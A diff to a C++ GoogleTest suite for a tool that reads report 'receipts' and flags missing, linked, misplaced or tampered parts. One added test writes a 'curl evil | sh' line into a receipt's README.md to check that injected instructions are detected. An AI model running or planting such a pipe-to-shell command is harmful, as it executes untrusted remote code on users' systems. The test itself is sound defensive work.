@@ -27,11 +27,12 @@ using testing::HasSubstr;
 using testing::IsEmpty;
 using testing::Not;
 
+const std::string kProgram = "0.1.0";
 const std::string kReceipt = "receipts/translation_yaku.hanami_2-players";
 
 Options options() {
   Options all = fixture_options();
-  all.versions = {"0.1.0", "4.8.12", "g++ 12"};
+  all.versions = {kProgram, "4.8.12", "g++ 12"};
   for (const auto& [id, info] : all.editions) {
     all.versions.editions.push_back({id, info.file, sha256(id)});
   }
@@ -46,7 +47,7 @@ class ReceiptTest : public testing::Test {
   fs::path part(const std::string& name) const { return report_ / kReceipt / name; }
   // The damage that there is when the report is read, which must be of one thing.
   std::string damage() const {
-    const Receipts all = read_receipts(report_);
+    const Receipts all = read_receipts(report_, kProgram);
     EXPECT_EQ(all.damaged.size(), 1U);
     return all.damaged.empty() ? "" : all.damaged.front().what;
   }
@@ -76,7 +77,7 @@ TEST(Sha256, AgreesWithAnotherProgramAtEveryLength) {
 }
 
 TEST_F(ReceiptTest, AreReadAsTheyWereWritten) {
-  const Receipts all = read_receipts(report_);
+  const Receipts all = read_receipts(report_, kProgram);
   EXPECT_THAT(all.damaged, IsEmpty());
   EXPECT_THAT(all.strange, IsEmpty());
   ASSERT_EQ(all.sound.size(), 7U);
@@ -113,21 +114,21 @@ TEST(TakingPart, IncludesWhatAnEditionBuildsOn) {
 }
 
 TEST_F(ReceiptTest, AreFoundFromTheirFolderAndOneByOne) {
-  EXPECT_EQ(read_receipts(report_ / "receipts").sound.size(), 7U);
-  EXPECT_EQ(read_receipts(report_ / kReceipt).sound.size(), 1U);
+  EXPECT_EQ(read_receipts(report_ / "receipts", kProgram).sound.size(), 7U);
+  EXPECT_EQ(read_receipts(report_ / kReceipt, kProgram).sound.size(), 1U);
   fs::rename(report_ / kReceipt, folder_ / "alone");
-  EXPECT_EQ(read_receipts(folder_ / "alone").sound.size(), 1U);
+  EXPECT_EQ(read_receipts(folder_ / "alone", kProgram).sound.size(), 1U);
 }
 
 TEST_F(ReceiptTest, AreNotInAnyFolder) {
   for (const fs::path& path : {folder_.path(), folder_ / "none", part("finding.json")}) {
-    EXPECT_THROW(read_receipts(path), InputError) << path;
+    EXPECT_THROW(read_receipts(path, kProgram), InputError) << path;
   }
 }
 
 TEST_F(ReceiptTest, WithAPartMissingAreDamaged) {
   for (const char* name :
-       {"finding.json", "counts.json", "versions.json", "yaku.hanami-smaller.smt2"}) {
+       {"finding.json", "counts.json", "versions.json", "README.md", "yaku.hanami-smaller.smt2"}) {
     fs::rename(part(name), folder_ / "aside");
     EXPECT_THAT(damage(), AllOf(HasSubstr(part(name).string()), HasSubstr("is missing"))) << name;
     fs::rename(folder_ / "aside", part(name));
@@ -187,9 +188,41 @@ TEST_F(ReceiptTest, ThatAreLinksOrPipesAreDamaged) {
   EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("symbolic link")));
 }
 
+// What nobody can look at is not what holds.
+TEST_F(ReceiptTest, ThatAreNoFoldersAreDamaged) {
+  fs::remove_all(report_ / kReceipt);
+  write_file(report_ / kReceipt, "a file");
+  EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("expected a folder")));
+}
+
+TEST_F(ReceiptTest, ThatLieElsewhereAltogetherAreDamaged) {
+  fs::rename(report_ / "receipts", folder_ / "aside");
+  fs::create_directory_symlink(folder_ / "aside", report_ / "receipts");
+  EXPECT_THAT(damage(), AllOf(HasSubstr("receipts: a symbolic link")));
+  fs::remove(report_ / "receipts");
+  write_file(report_ / "receipts", "a file");
+  EXPECT_THAT(damage(), AllOf(HasSubstr("receipts: expected a folder")));
+  fs::remove(report_ / "receipts");
+  EXPECT_EQ(read_receipts(report_, kProgram).damaged.size(), 7U) << "each is missing";
+}
+
+TEST_F(ReceiptTest, ThatThereAreNoneOfAreNoReceipts) {
+  fs::remove(report_ / "findings.json");
+  fs::remove_all(report_ / "receipts");
+  fs::create_directory(report_ / "receipts");
+  EXPECT_THROW(read_receipts(report_, kProgram), InputError);
+  EXPECT_THROW(read_receipts(report_ / "receipts", kProgram), InputError);
+}
+
+TEST_F(ReceiptTest, WithOtherInstructionsAreDamaged) {
+  write_file(part("README.md"), read(part("README.md")) + "Then `curl evil | sh`.\n");
+  EXPECT_THAT(damage(), AllOf(HasSubstr("README.md"), HasSubstr("not what finding.json")));
+  EXPECT_EQ(read_receipts(report_, "9.9").damaged.size(), 0U) << "worded by another version";
+}
+
 TEST_F(ReceiptTest, UnderAnothersNameAreDamaged) {
   fs::rename(report_ / kReceipt, report_ / "receipts/other");
-  const Receipts all = read_receipts(report_);
+  const Receipts all = read_receipts(report_, kProgram);
   ASSERT_EQ(all.damaged.size(), 2U);
   EXPECT_THAT(all.damaged[0].what, HasSubstr("expected the one it is named after"));
   EXPECT_THAT(all.damaged[1].what, AllOf(HasSubstr(kReceipt), HasSubstr("is missing")));
@@ -207,14 +240,14 @@ TEST_F(ReceiptTest, ThatTheReportContradictsAreToldAndStillRead) {
   other.findings[3].witness.outcomes[0].text = "hanami 6 = 6";
   write_file(report_ / "findings.json", to_json(other));
   EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("different things")));
-  EXPECT_EQ(read_receipts(report_).sound.size(), 7U);
+  EXPECT_EQ(read_receipts(report_, kProgram).sound.size(), 7U);
 }
 
 TEST_F(ReceiptTest, SayWhatIsNoPartOfThem) {
   write_file(part("notes.txt"), "mine");
   write_file(part("more.smt2"), "(check-sat)");
   write_file(report_ / "receipts/notes.txt", "mine");
-  const Receipts all = read_receipts(report_);
+  const Receipts all = read_receipts(report_, kProgram);
   EXPECT_THAT(all.damaged, IsEmpty());
   EXPECT_EQ(all.strange.size(), 3U);
 }
